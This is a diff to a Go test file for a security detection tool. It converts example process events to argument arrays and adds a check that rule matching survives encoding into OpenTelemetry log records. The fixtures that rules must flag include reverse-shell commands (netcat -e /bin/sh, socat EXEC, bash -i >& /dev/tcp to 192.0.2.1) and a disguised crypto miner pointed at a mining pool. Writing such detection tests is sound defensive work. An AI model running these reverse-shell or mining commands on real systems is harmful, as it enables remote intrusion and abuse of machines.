@@ -11,6 +11,8 @@ import (
 
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
+	"go.opentelemetry.io/collector/pdata/plog"
+	"golang.org/x/sys/unix"
 
 	"github.com/picketsec/picket/internal/event"
 	"github.com/picketsec/picket/internal/secl"
@@ -99,23 +101,23 @@ var exampleEvents = map[string]struct {
 			`{"type":"exec","exec.file.name":"nc.traditional","exec.argv":["-e","/bin/sh","192.0.2.1","4444"]}`,
 			`{"type":"exec","exec.file.name":"ncat","exec.argv":["-lvp","4444","--exec","/bin/bash"]}`,
 			`{"type":"exec","exec.file.name":"nc","exec.argv":["-nve","/bin/sh","192.0.2.1","1"]}`,
-			`{"type":"exec","exec.file.name":"socat","exec.argv":["TCP:192.0.2.1:1","EXEC:/bin/sh,pty"],"exec.args":"TCP:192.0.2.1:1 EXEC:/bin/sh,pty"}`,
+			`{"type":"exec","exec.file.name":"socat","exec.argv":["TCP:192.0.2.1:1","EXEC:/bin/sh,pty"]}`,
 		},
 		quiet: []string{
-			`{"type":"exec","exec.file.name":"nc.openbsd","exec.argv":["-z","localhost","5432"],"exec.args":"-z localhost 5432"}`,
-			`{"type":"exec","exec.file.name":"sh","exec.argv":["-c","true"],"exec.args":"-c true"}`,
+			`{"type":"exec","exec.file.name":"nc.openbsd","exec.argv":["-z","localhost","5432"]}`,
+			`{"type":"exec","exec.file.name":"sh","exec.argv":["-c","true"]}`,
 		},
 	},
 	"shell_connected_to_network_device": {
-		hit:   []string{`{"type":"exec","exec.file.name":"bash","exec.args":"-c bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"}`},
-		quiet: []string{`{"type":"exec","exec.file.name":"bash","exec.args":"-c echo > /dev/tcp/127.0.0.1/5432"}`},
+		hit:   []string{`{"type":"exec","exec.file.name":"bash","exec.argv":["-c","bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"]}`},
+		quiet: []string{`{"type":"exec","exec.file.name":"bash","exec.argv":["-c","echo > /dev/tcp/127.0.0.1/5432"]}`},
 	},
 	"crypto_miner_started": {
 		hit: []string{
 			`{"type":"exec","exec.file.name":"xmrig-6.21"}`,
-			`{"type":"exec","exec.file.name":"kworkerd","exec.args":"-o stratum+tcp://pool.example:3333 -u x"}`,
+			`{"type":"exec","exec.file.name":"kworkerd","exec.argv":["-o","stratum+tcp://pool.example:3333","-u","x"]}`,
 		},
-		quiet: []string{`{"type":"exec","exec.file.name":"cargo","exec.args":"build --release"}`},
+		quiet: []string{`{"type":"exec","exec.file.name":"cargo","exec.argv":["build","--release"]}`},
 	},
 	"package_manager_in_old_container": {
 		hit: []string{`{"type":"exec","exec.file.name":"apt-get","process.container.id":"abc","process.container.created_at":"now-1h"}`},
@@ -228,10 +230,33 @@ var exampleEvents = map[string]struct {
 	},
 }
 
+// matching says which rules match a flat event, and checks that the event's log record gives the same.
 func matching(t *testing.T, set *Set, flat string) map[string]bool {
 	t.Helper()
 	ev, err := event.ParseFlatEventAt([]byte(flat), start)
 	require.NoError(t, err, flat)
+	got := matches(set, ev)
+
+	if c := ev.Connect; c != nil { // a sensor gives the address in the form of the schema too
+		addr, ok := event.LookupField("connect.addr.ip")
+		require.True(t, ok)
+		ip := addr.IP(ev).Addr()
+		ev.Network = &event.NetworkContext{Destination: event.IPPort{IP: ip, Port: c.Addr.Port}}
+		ev.Facts.SocketFamily = unix.AF_INET
+		if ip.Is6() {
+			ev.Facts.SocketFamily = unix.AF_INET6
+		}
+	}
+	lr := plog.NewLogRecord()
+	event.EncodeRecord(ev, &event.Host{ID: "h"}, lr)
+	var d event.Decoder
+	var decoded event.Event
+	require.NoError(t, d.DecodeRecord(lr, set.Need(ev.Type), &decoded))
+	assert.Equal(t, got, matches(set, &decoded), "the record gives another result: %s\n%s", flat, lr.Body().Str())
+	return got
+}
+
+func matches(set *Set, ev *event.Event) map[string]bool {
 	c := &secl.Context{Event: ev, Now: start}
 	got := map[string]bool{}
 	for _, r := range set.Rules(ev.Type) {
